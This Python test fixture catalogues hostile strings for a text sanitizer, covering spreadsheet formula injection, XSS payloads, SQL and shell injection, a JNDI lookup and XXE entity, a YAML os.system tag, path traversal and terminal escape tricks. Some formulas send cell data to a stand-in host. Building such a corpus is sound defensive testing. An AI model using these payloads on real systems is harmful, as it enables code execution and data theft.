"""What people write, paste and import that could do harm somewhere: one corpus for every door in and every way out.

A text is taken, and what is kept of it is `clean`; or it is refused with a sentence. Either way nothing runs, opens,
hides, reorders or breaks out of where it stands. `tests/hostile.py` puts the texts into a workspace, through every
door, and `tests/inert.py` judges what comes out.
"""

from __future__ import annotations

from dataclasses import dataclass

from outcome_tracker.core.text import clean


@dataclass(frozen=True, slots=True)
class Nasty:
    """A text, what it is called, and what it attacks."""

    name: str
    attacks: str
    text: str

    @property
    def kept(self) -> str:
        """What of it is kept in one line."""
        return clean(self.text)


_SPREADSHEET, _PAGE, _SCREEN, _TERMINAL = "spreadsheets", "web pages", "screens", "terminals"
_READER, _WORD, _MARKDOWN, _FILE = "readers", "documents", "Markdown", "file systems"
_CODE, _YAML, _SIZE, _TABLE, _LETTERS = "programs", "plan files", "widths", "CSV", "letters"

CORPUS: tuple[Nasty, ...] = (
    # Formulas
    Nasty("program call", _SPREADSHEET, "=cmd|'/C calc'!A0"),
    Nasty("link formula", _SPREADSHEET, '=HYPERLINK("http://example.net?"&A1,"Click")'),
    Nasty("service formula", _SPREADSHEET, '=WEBSERVICE("http://example.net/"&B2)'),
    Nasty("plus", _SPREADSHEET, "+1+1"),
    Nasty("telephone number", _SPREADSHEET, "+44 1244 300 000"),
    Nasty("minus", _SPREADSHEET, "-2+3+cmd|' /C calc'!A0"),
    Nasty("at sign", _SPREADSHEET, "@SUM(1+1)*cmd|' /C calc'!A0"),
    Nasty("tab before a formula", _SPREADSHEET, "\t=1+1"),
    Nasty("carriage return before a formula", _SPREADSHEET, "\r=1+1"),
    Nasty("wide equals sign", _SPREADSHEET, "\uff1d1+1"),
    Nasty("covered formula", _SPREADSHEET, "'=1+1"),
    Nasty("quoted formula", _SPREADSHEET, '"=1+1"'),
    Nasty("formula behind a zero width space", _SPREADSHEET, "\u200b=1+1"),
    Nasty("formula behind an escape", _SPREADSHEET, "\x1b[0m=1+1"),
    Nasty("array formula", _SPREADSHEET, "{=SUM(A1:A9)}"),
    Nasty("error value", _SPREADSHEET, "#REF!"),
    Nasty("header codes", _SPREADSHEET, "&P of &N &[File] &D"),
    Nasty("coded letter", _SPREADSHEET, "_x0041_ _x000D_ _xD800_"),
    Nasty("old field", _SPREADSHEET, 'DDE("cmd";"/C calc";"x")'),
    # HTML
    Nasty("script", _PAGE, "<script>alert(1)</script>"),
    Nasty("end of script", _PAGE, "</script><script>alert(1)//"),
    Nasty("picture", _PAGE, "<img src=x onerror=alert(1)>"),
    Nasty("way out of the head", _PAGE, "</title></style></svg><img src=x onerror=alert(1)>"),
    Nasty("way out of a chart", _PAGE, "</text></svg><script>alert(1)</script>"),
    Nasty("attribute breaker", _PAGE, '" onmouseover="alert(1)" \' onfocus=\'alert(1)'),
    Nasty("attribute breaker that focuses", _PAGE, '"><svg/onload=alert(1)> autofocus onfocus=alert(1)'),
    Nasty("unquoted attribute", _PAGE, "x onclick=alert(1) style=position:fixed"),
    Nasty("script address", _PAGE, "javascript:alert(document.domain)"),
    Nasty("script address with a break", _PAGE, "java\nscript:alert(1)"),
    Nasty("data address", _PAGE, "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    Nasty("entities", _PAGE, "&lt;script&gt; &amp; &#x3c;b&#x3e; &quot; &NotAnEntity; &#0;"),
    Nasty("comment", _PAGE, "--><!-- --!> <!--[if IE]> ]]>"),
    Nasty("style breaker", _PAGE, "*/ } body { display: none } @import 'http://example.net/x.css'; \\"),
    Nasty("frame", _PAGE, "<iframe src=//example.net></iframe><base href=//example.net/>"),
    Nasty("mathematics", _PAGE, "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    Nasty("address", _PAGE, "https://example.net/x.png www.example.net jo@example.net"),
    # Textual and Rich
    Nasty("action", _SCREEN, "[@click=app.quit]quit[/]"),
    Nasty("action with quotes", _SCREEN, "[@click=\"app.bell('x')\"]ring[/]"),
    Nasty("end without a beginning", _SCREEN, "x[/] y[/red]"),
    Nasty("unfinished markup", _SCREEN, "[bold"),
    Nasty("markup that vanishes", _SCREEN, "[c] [b] [i]"),
    Nasty("colours", _SCREEN, "[red on red]hidden[/] [$error]x[/] [reverse]r[/reverse]"),
    Nasty("link markup", _SCREEN, "[link=file:///etc/passwd]l[/link]"),
    Nasty("escaped markup", _SCREEN, "\\[bold]x\\[/] \\\\[i]"),
    Nasty("emoji code", _SCREEN, ":warning: :skull: &[x]"),
    # Terminals
    Nasty("colour sequence", _TERMINAL, "\x1b[31mred\x1b[0m"),
    Nasty("clear the screen", _TERMINAL, "\x1b[2J\x1b[3J\x1b[Hcleared"),
    Nasty("window title", _TERMINAL, "\x1b]0;title\x07 set"),
    Nasty("terminal link", _TERMINAL, "\x1b]8;;http://example.net\x1b\\link\x1b]8;;\x1b\\"),
    Nasty("clipboard", _TERMINAL, "\x1b]52;c;cm0gLXJmIC8=\x07 copied"),
    Nasty("sequence without an end", _TERMINAL, "before \x1b]0;never ended"),
    Nasty("half a sequence", _TERMINAL, "half \x1b["),
    Nasty("device string", _TERMINAL, "\x1bP+q544e\x1b\\ asked \x1b_G\x1b\\"),
    Nasty("alternate letters", _TERMINAL, "\x1b(0lqqk\x0e\x0f"),
    Nasty("eight-bit sequence", _TERMINAL, "\x9b2J \x9d0;title\x9c \x90q\x9c \x85next"),
    Nasty("bell and backspace", _TERMINAL, "abc\x07\x08\x08\x08xyz\x7f"),
    Nasty("overwritten line", _TERMINAL, "Red\rGreen"),
    Nasty("other line ends", _TERMINAL, "a\x0bb\x0cc\x1cd\u2028e\u2029f"),
    Nasty("own style codes", _TERMINAL, "\ue000\ue005red\ue003green"),
    # What readers see
    Nasty("reversed", _READER, "\u202eneerG\u202c is Red"),
    Nasty("isolates", _READER, "a\u2066b\u2067c\u2068d\u2069 \u200f\u061c\u200e"),
    Nasty("zero width", _READER, "ze\u200bro\u200c wid\u2060th\ufeff \u00adsoft"),
    Nasty("only what is not seen", _READER, "\u200b\u202e\ufeff\x00"),
    Nasty("combining stack", _READER, "Z" + "\u0351\u036b\u0343\u036a\u0302" * 12 + "algo"),
    Nasty("combining first", _READER, "\u0301\u0301first"),
    Nasty("decomposed", _READER, "cafe\u0301 A\u030a"),
    Nasty("lookalikes", _READER, "\u0420\u0430ypal \u2024\u2044 \u037e"),
    Nasty("many kinds of space", _READER, "a\u00a0b\u2003c\u3000d\u1680e\u180ef"),
    Nasty("tags", _READER, "flag \U000e0041\U000e0042\U000e007f"),
    Nasty("variation selectors", _READER, "a\ufe0f\ufe0e\U000e0100b"),
    # Letters that encodings break at
    Nasty("NUL", _LETTERS, "before\x00after"),
    Nasty("byte order mark", _LETTERS, "\ufeffmarked\ufeff"),
    Nasty("noncharacters", _LETTERS, "a\ufffeb\uffffc\ufdd0d\U0001ffff"),
    Nasty("lone surrogate", _LETTERS, "a\ud800b"),
    Nasty("surrogates the wrong way round", _LETTERS, "\udc00\ud800"),
    Nasty("undecoded byte", _LETTERS, "caf\udce9"),
    Nasty("replacement", _LETTERS, "caf\ufffd"),
    Nasty("wrongly decoded", _LETTERS, "cafÃ© â€™"),
    Nasty("private use", _LETTERS, "\uf8ff \U000f0000 \U0010fffd"),
    Nasty("capitals that grow", _LETTERS, "Straße İstanbul ﬁn ŉ ǰ"),
    Nasty("family", _LETTERS, "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466 naïve café"),
    Nasty("flags and skins", _LETTERS, "\U0001f1ec\U0001f1e7 \U0001f44d\U0001f3ff \U0001f3f4\U000e0067\U000e007f"),
    Nasty("right to left", _LETTERS, "שלום مرحبا 123 (x)"),
    Nasty("wide letters", _LETTERS, "漢字かな交じり文 \uff57\uff49\uff44\uff45 ﷽"),
    Nasty("Welsh", _LETTERS, "Ŵ ŷ ‘Gwasanaethau’ – “plant”"),
    # Word and XML
    Nasty("end of data", _WORD, "]]><w:r/>"),
    Nasty("element", _WORD, "<w:p><w:r><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:r></w:p>"),
    Nasty("ampersand and quotes", _WORD, "R&D &amp; \"quoted\" 'too' <>"),
    Nasty("field", _WORD, '{ INCLUDEPICTURE "http://example.net/x.png" } { MERGEFIELD x }'),
    Nasty("declaration", _WORD, "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"),
    Nasty("template", _WORD, "{{ report }} {% for x in () %}{% endfor %} {# gone #}"),
    Nasty("raw template", _WORD, "{% raw %}"),
    # Markdown
    Nasty("Markdown link", _MARKDOWN, "[click](javascript:alert(1)) ![x](http://example.net/x.png)"),
    Nasty("Markdown reference", _MARKDOWN, "[a][b] <http://example.net> [b]: http://example.net"),
    Nasty("table cell", _MARKDOWN, "a | b \\| c || d"),
    Nasty("code", _MARKDOWN, "`code` ```fence ~~~ ``"),
    Nasty("emphasis", _MARKDOWN, "*bold* __it__ ~~gone~~ ==marked=="),
    Nasty("heading", _MARKDOWN, "# heading"),
    Nasty("rule", _MARKDOWN, "---"),
    Nasty("list", _MARKDOWN, "1. item"),
    Nasty("quotation", _MARKDOWN, "> quoted"),
    Nasty("HTML in Markdown", _MARKDOWN, "<details open ontoggle=alert(1)><b>x</b>"),
    Nasty("footnote and mathematics", _MARKDOWN, "[^1] $x$ $$y$$ :::note"),
    # File names
    Nasty("way up", _FILE, "../../etc/passwd"),
    Nasty("way up in Windows", _FILE, "..\\..\\windows\\system32"),
    Nasty("root", _FILE, "/etc/passwd"),
    Nasty("drive", _FILE, "C:\\con\\con"),
    Nasty("device", _FILE, "CON"),
    Nasty("device with an ending", _FILE, "aux.txt"),
    Nasty("numbered device", _FILE, "COM¹.x"),
    Nasty("dot at the end", _FILE, "ends in a dot."),
    Nasty("space at the end", _FILE, "ends in a space "),
    Nasty("stream", _FILE, "report.html:evil.exe:$DATA"),
    Nasty("255 bytes", _FILE, "é" * 127 + "x"),
    Nasty("256 bytes", _FILE, "é" * 128),
    Nasty("new line in a name", _FILE, "one\ntwo.html"),
    Nasty("wildcards", _FILE, '*?[a-z]<>|"%TEMP%~1'),
    Nasty("hidden", _FILE, ".hidden"),
    Nasty("only dots", _FILE, ".."),
    Nasty("option", _FILE, "--force"),
    Nasty("home", _FILE, "~root/$HOME"),
    # Programs
    Nasty("end of a statement", _CODE, "'; DROP TABLE figure; --"),
    Nasty("always true", _CODE, '" OR "1"="1'),
    Nasty("pattern", _CODE, "100%_ \\% [a-z]* (?"),
    Nasty("percent format", _CODE, "%s %n %(x)s %1000000000d %%"),
    Nasty("brace format", _CODE, "{0.__class__.__mro__} {x!r:>99999999}"),
    Nasty("template mathematics", _CODE, "{{7*7}} #{7*7} <%= 7*7 %>"),
    Nasty("shell", _CODE, "${HOME} $(id) `id`; rm -rf / & | x"),
    Nasty("lookup", _CODE, "${jndi:ldap://example.net/x}"),
    Nasty("escapes spelled out", _CODE, "\\x1b[31m \\u202e \\n \\0"),
    # Plan files
    Nasty("colon", _YAML, "key: value # remark"),
    Nasty("no", _YAML, "no"),
    Nasty("null", _YAML, "~"),
    Nasty("seconds", _YAML, "1:30:00"),
    Nasty("not a number", _YAML, ".nan"),
    Nasty("reference", _YAML, "&a *a !!python/object/apply:os.system [x]"),
    Nasty("open brackets", _YAML, "[{,"),
    Nasty("quotes", _YAML, 'it\'s "so"'),
    Nasty("block", _YAML, "| folded > %YAML"),
    # CSV
    Nasty("quote, comma and line inside", _TABLE, 'a "b", c;\td\ne'),
    Nasty("quotes only", _TABLE, '""""'),
    Nasty("commas only", _TABLE, ",,,"),
    Nasty("columns", _TABLE, "indicator,period,value"),
    # Widths
    Nasty("long word", _SIZE, "W" * 400),
    Nasty("long text", _SIZE, ("Children who need help get it early. " * 109)[:3_999]),
    Nasty("10,000 letters", _SIZE, "x" * 10_000),
    Nasty("wide and long", _SIZE, "漢" * 300),
    Nasty("many lines", _SIZE, "line\n" * 60),
    Nasty(
        "markup, all of it", _SCREEN, "[c] x[/] [@click=app.quit]quit[/] [red]r[/red] [link=file:///etc/passwd]l[/link]"
    ),
    Nasty(
        "sequences, all of them",
        _TERMINAL,
        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\ \x9b2J \x07\x08\x7f"
        " \u202eevil\u200b\ufeff \ue005",
    ),
)
BY_NAME = {nasty.name: nasty for nasty in CORPUS}


def against(attacked: str) -> tuple[str, ...]:
    """Return what is kept of the texts that attack these."""
    return tuple(nasty.kept for nasty in CORPUS if nasty.attacks == attacked and nasty.kept)


MARKUP = BY_NAME["markup, all of it"].text
ESCAPES = BY_NAME["sequences, all of them"].text
